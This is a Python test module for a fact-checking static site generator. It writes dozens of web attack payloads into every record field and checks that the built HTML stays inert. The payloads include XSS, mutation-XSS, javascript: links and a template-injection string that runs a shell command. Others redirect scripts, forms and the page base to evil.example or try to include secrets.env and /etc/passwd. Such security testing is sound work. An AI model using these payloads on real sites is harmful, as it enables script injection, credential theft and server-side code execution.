"""Hostile payloads from the security review (section 5) and the checks that output is inert.

Every payload tries to set `window.__pwned` or `document.documentElement.dataset.pwned`,
so a browser can tell whether any of them ran. `fill_desk` writes a payload into every
free-text field of a record set; `content_problems` and `page_problems` say what in the
resulting HTML is not inert.
"""

from __future__ import annotations

import html
import json
import re
import shutil
from pathlib import Path
from urllib.parse import urlsplit

import html5lib

from generator import csp, prose

PAYLOADS: dict[str, str] = {
    "30-script": "<script>window.__pwned=1</script>",
    "30-script-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "31-img-onerror": "<img src=x onerror=window.__pwned=1>",
    "31-svg-onload": "<svg onload=document.documentElement.dataset.pwned=1>",
    "31-details-ontoggle": "<details open ontoggle=window.__pwned=1>",
    "31-body-onload": "<body onload=window.__pwned=1>",
    "32-iframe-srcdoc": '<iframe srcdoc="<script>parent.__pwned=1</script>">',
    "32-object-embed": "<object data=javascript:parent.__pwned=1><embed src=x.swf>",
    "33-attr-list-image": '![x](a.png){ onerror="window.__pwned=1" }',
    "33-attr-list-block": 'Text\n{: onclick="window.__pwned=1" }',
    "34-base": '<base href="https://evil.example/">',
    "35-meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "36-form": "<form action=https://evil.example/><input name=password>",
    "37-style-element": "<style>*{display:none!important}</style>",
    "37-style-attribute": '<p style="position:fixed;inset:0">Log in again</p>',
    "38-textarea": "<textarea>",
    "38-title": "<title>",
    "38-plaintext": "<plaintext>",
    "38-comment": "<!--",
    "39-config-heading": '## {"search":"/evil-worker.js"} {#__config}',
    "39-id-name": '<a id="__config" name="__config">x</a>',
    "40-snippets": '--8<-- "secrets.env"',
    "40-snippets-parent": '--8<-- "../mkdocs.yml"',
    "41-jinja": "{{ 7*7 }} {% raw %}",
    "41-ssti": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "42-mxss-math": "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    "42-mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    "43-title-sink": "</title><script>window.__pwned=1</script>",
    "44-attribute-sink": '"><script>window.__pwned=1</script>',
    "45-entities": "&lt;/title&gt;&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "46-json-ld": "</script><script>window.__pwned=1</script><!--",
    "47-link-text": "] (javascript:window.__pwned=1) [",
    "49-javascript": "[a](javascript:window.__pwned=1)",
    "49-javascript-case": "[a]( JaVaScRiPt:window.__pwned=1)",
    "49-javascript-entity": "[a](jav&#x61;script:window.__pwned=1)",
    "49-javascript-tab": "[a](java\tscript:window.__pwned=1)",
    "50-data": "[a](data:text/html,<script>parent.__pwned=1</script>)",
    "50-vbscript-file": "[a](vbscript:x) [b](file:///etc/passwd)",
    "51-protocol-relative": "[a](//evil.example/)",
    "53-quote-breakout": '[a](https://example.org/" onmouseover="window.__pwned=1)',
}
"""Section 5, cases 30-53: markup every free-text field must show as text."""

MARKERS = ("__pwned", "dataset.pwned")

CANARY = "CANARY-8f3e1d-secret"
"""Content of a secrets.env next to mkdocs.yml; it must never reach the site."""

TEMPLATE_TAGS = frozenset(
    {
        "a", "article", "blockquote", "br", "dd", "div", "dl", "dt", "em", "figcaption",
        "figure", "h1", "h2", "li", "mark", "ol", "p", "path", "rect", "script", "section",
        "span", "strong", "svg", "table", "tbody", "td", "th", "thead", "time", "title",
        "tr", "ul",
    }
)  # fmt: skip
"""Elements our templates write; `title` only inside `svg`, `script` only as JSON-LD."""

CONTENT_TAGS = TEMPLATE_TAGS | prose.ALLOWED_TAGS
CONTENT_ATTRIBUTES = frozenset(
    {
        "aria-hidden", "aria-label", "aria-labelledby", "class", "colspan", "d",
        "data-claim", "data-fc-copy-label", "data-label", "data-pagefind-body", "datetime", "fill",
        "focusable", "height", "href", "id", "preserveaspectratio", "rel", "reversed", "role",
        "scope", "title", "type", "viewbox", "width", "x", "y",
    }
)  # fmt: skip
SCHEMES = frozenset({"http", "https", "mailto"})
_SLUG = re.compile(r"^[a-z0-9](?:[a-z0-9-]{0,62}[a-z0-9])?$")


def slug(case: str) -> str:
    return "p" + case


# -- a desk full of payloads ---------------------------------------------------


def _q(value: str) -> str:
    """A YAML double-quoted scalar (JSON strings are YAML)."""
    return json.dumps(value, ensure_ascii=False)


def flat(payload: str) -> str:
    """The payload on one line, as a line of article text must be."""
    return " ".join(payload.split("\n"))


def fill_desk(root: Path, payloads: dict[str, str]) -> None:
    """Add, per payload, a claim, article (with its text), source and entity.

    The payload goes into every free-text field: claim, conclusion, explanation, the
    quote and the article text around it, citation note, correction change and
    reason; entity name, description and aliases; source title, publisher,
    description and mirror_of; article title, headline, section, gap label and note.
    """
    facts = root / "facts"
    for case, payload in payloads.items():
        name = slug(case)
        line = flat(payload)
        (root / "seeds" / f"{name}-article.txt").write_text(
            f"# {line}\n> {line}\n![{line}](javascript:window.__pwned=1)\n"
            f"Quoted: {line}\nThe end of {name}.\n",
            encoding="utf-8",
        )
        (facts / "entities" / f"{name}-entity.yaml").write_text(
            f"id: {name}-entity\nname: {_q(payload)}\nkind: person\n"
            f"description: {_q(payload)}\naliases:\n  - {_q(payload)}\n  - {_q(payload + ' 2')}\n",
            encoding="utf-8",
        )
        (facts / "sources" / f"{name}-source.yaml").write_text(
            f"id: {name}-source\ntitle: {_q(payload)}\npublisher: {_q(payload)}\n"
            f"url: https://example.org/{name}\nkind: report\ndescription: {_q(payload)}\n"
            f"mirror_of: {_q(payload)}\n",
            encoding="utf-8",
        )
        (facts / "articles" / f"{name}-article.yaml").write_text(
            f"id: {name}-article\ntitle: {_q(payload)}\nheadline: {_q(payload)}\n"
            f"section: {_q(payload)}\npublication: {name}-entity\npublished: 2024-01-01\n"
            f"text: {name}-article.txt\ngaps:\n  - before: The end of\n"
            f"    label: {_q(payload)}\n    note: {_q(payload)}\n",
            encoding="utf-8",
        )
        (facts / "claims" / f"{name}-claim.yaml").write_text(
            f"id: {name}-claim\narticle: {name}-article\nquote: {_q(line)}\n"
            f"claim: {_q(payload)}\nclaimant: {name}-entity\nverdict: unproven\n"
            f"conclusion: {_q(payload)}\nexplanation: {_q(payload)}\nsources:\n"
            f"  - source: {name}-source\n    stance: context\n    note: {_q(payload)}\n"
            f"entities: [{name}-entity]\npublished: 2024-02-01\nreviewed: 2024-02-03\n"
            "evidence_as_of: 2024-02-01\ncorrections:\n  - date: 2024-02-02\n"
            f"    change: {_q(payload)}\n    reason: {_q(payload)}\n"
            "    previous_verdict: inaccurate\n",
            encoding="utf-8",
        )


def fill_scale(root: Path, payload: str) -> None:
    """The payload as the scale's name and every verdict's definition and label."""
    path = root / "facts" / "scale.yaml"
    text = path.read_text(encoding="utf-8").replace(
        "name: Three-step scale", f"name: {_q(payload)}"
    )
    text = re.sub(r"definition: .*", f"definition: {_q(payload)}", text)
    for label in ("Accurate", "Inaccurate", "Unproven"):
        # Labels hold 40 characters; the claim rule forbids them in claims, so
        # each keeps its own word in front.
        text = text.replace(f"label: {label}\n", f"label: {_q((label + ' ' + payload)[:40])}\n")
    path.write_text(text, encoding="utf-8")


# -- what inert means -----------------------------------------------------------


def parse_fragment(html: str):
    return html5lib.parseFragment(html, namespaceHTMLElements=False)


def parse_document(html: str):
    return html5lib.parse(html, namespaceHTMLElements=False)


def local(tag: object) -> str:
    """`{http://www.w3.org/2000/svg}path` -> `path`."""
    return str(tag).rsplit("}", 1)[-1]


def href_problem(value: str) -> str | None:
    """Why a link target is not one of ours or an http(s)/mailto URL, or None."""
    if value != value.strip() or any(c in value for c in "\\\t\n\r"):
        return f"href with white space or backslash: {value!r}"
    if value.startswith("//"):
        return f"protocol-relative href: {value!r}"
    scheme = urlsplit(value).scheme
    if scheme and scheme.lower() not in SCHEMES:
        return f"href with scheme {scheme!r}: {value!r}"
    return None


def element_problems(root, *, tags=CONTENT_TAGS, attributes=CONTENT_ATTRIBUTES) -> list[str]:
    """Elements, attributes and links in `root` that are not on the allowlists."""
    found = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue  # comments
        tag = local(element.tag)
        if tag == "DOCUMENT_FRAGMENT":
            continue
        if tag not in tags:
            found.append(f"element <{tag}>")
        for name, value in element.attrib.items():
            name = local(name).lower()
            if name.startswith("on"):
                found.append(f"event handler {name}= on <{tag}>")
            elif name not in attributes:
                found.append(f"attribute {name}= on <{tag}>")
            if name in ("href", "src", "action", "formaction", "xlink:href") and (
                problem := href_problem(value)
            ):
                found.append(problem)
    return found


def content_problems(html: str, *, claim_page: bool) -> list[str]:
    """What is not inert in one page body the generator wrote."""
    tree = parse_fragment(html)
    found = element_problems(tree)
    scripts = [e for e in tree.iter() if isinstance(e.tag, str) and local(e.tag) == "script"]
    expected = 1 if claim_page else 0
    if len(scripts) != expected or any(s.get("type") != "application/ld+json" for s in scripts):
        found.append(f"{len(scripts)} <script> elements; expected {expected} JSON-LD block(s)")
    for script in scripts:
        try:
            json.loads(script.text or "")
        except ValueError:
            found.append("JSON-LD block is not valid JSON")
    in_svg = {
        id(inner)
        for svg in tree.iter()
        if isinstance(svg.tag, str) and local(svg.tag) == "svg"
        for inner in svg.iter()
    }
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        if local(element.tag) in ("title", "path", "rect") and id(element) not in in_svg:
            found.append(f"<{local(element.tag)}> outside an SVG")
        ident = element.get("id")
        if ident is not None and not _SLUG.match(ident):
            found.append(f"id {ident!r} is not a slug")
        if element.get("name") is not None:
            found.append("name= attribute")
    return found


def text_of(html: str) -> str:
    """The whitespace-normalised text a reader sees."""
    return " ".join("".join(parse_fragment(html).itertext()).split())


def norm(text: str) -> str:
    return " ".join(text.split())


def escape(text: str) -> str:
    return html.escape(text, quote=True)


# -- a built site ---------------------------------------------------------------------

FORBIDDEN_ANYWHERE = frozenset(
    {"base", "iframe", "frame", "frameset", "object", "embed", "applet", "textarea", "plaintext"}
)
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "poster", "data"})
BUILT_CONTENT_ATTRIBUTES = CONTENT_ATTRIBUTES | {"xmlns"}
_CLAIM_PAGE = re.compile(r"^claims/(?!index\.html)[^/]+/index\.html$")


def build_site(root: Path, out: Path):
    """A strict build of the fixture desk with every payload in every field.

    Hand-written pages use the Markdown extensions that let raw attributes and
    files in (attr_list, md_in_html, snippets), as a real desk might: record text
    must never pass through them.
    """
    from conftest import FIXTURE_SITE, mkdocs_build

    shutil.copytree(FIXTURE_SITE, root)
    fill_desk(root, PAYLOADS)
    fill_scale(root, PAYLOADS["43-title-sink"])
    (root / "secrets.env").write_text(CANARY + "\n", encoding="utf-8")
    (root / "docs" / "about.md").write_text("# About\n\nHand-written.\n", encoding="utf-8")
    config = root / "mkdocs.yml"
    config.write_text(
        config.read_text(encoding="utf-8")
        + "markdown_extensions:\n  - attr_list\n  - md_in_html\n  - pymdownx.snippets:\n"
        + f"      base_path: [{json.dumps(str(root))}]\n",
        encoding="utf-8",
    )
    return mkdocs_build(root, out)


def page_problems(text: str, where: str) -> list[str]:
    """What is not inert in one built page (`where` is its path in the site)."""
    tree = parse_document(text)
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = local(element.tag)
        if tag in FORBIDDEN_ANYWHERE:
            found.append(f"element <{tag}>")
        if tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
            found.append("meta refresh")
        for name, value in element.attrib.items():
            name = local(name).lower()
            if name.startswith("on") or name == "srcdoc":
                found.append(f"{name}= on <{tag}>")
            if name in URL_ATTRIBUTES and (problem := href_problem(value)):
                found.append(problem)
    scripts = list(tree.iter("script"))
    for script in scripts:
        source, kind = script.get("src"), script.get("type")
        if source is not None:
            if urlsplit(source).scheme or source.startswith("//"):
                found.append(f"script from elsewhere: {source}")
        elif kind not in ("application/json", "application/ld+json") and not (
            script.text or ""
        ).startswith(csp.THEME_SCRIPTS):
            found.append(f"inline script: {(script.text or '')[:40]!r}")
    ld = [s for s in scripts if s.get("type") == "application/ld+json"]
    if len(ld) != (1 if _CLAIM_PAGE.match(where) else 0):
        found.append(f"{len(ld)} JSON-LD blocks")
    for script in ld:
        try:
            json.loads(script.text or "")
        except ValueError:
            found.append("JSON-LD block is not valid JSON")
    if len(list(tree.iter("title"))) != 1:  # SVG titles are in the SVG namespace
        found.append("not exactly one <title>")
    if tree.find(".//footer") is None:
        found.append("no footer: something swallowed the rest of the page")
    content = next(
        (a for a in tree.iter("article") if "md-content__inner" in (a.get("class") or "")), None
    )
    if content is None:
        found.append("no content area")
    else:
        found += element_problems(content, attributes=BUILT_CONTENT_ATTRIBUTES)
    return found
